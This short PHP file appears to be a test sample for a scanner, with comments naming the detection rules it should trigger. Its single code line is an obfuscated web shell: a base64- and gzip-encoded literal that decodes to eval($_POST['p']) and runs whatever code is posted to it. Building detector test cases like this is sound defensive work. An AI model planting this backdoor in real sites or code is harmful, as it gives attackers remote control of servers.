<?php
// gzinflate(base64_decode(...)) of a literal that holds eval($_POST['p']).
// want: php_decoded_code_exec php_request_code_exec
eval(gzinflate(base64_decode('Sy1LzNFQiQ/wDw6JVi9Qj9W0BgA=')));
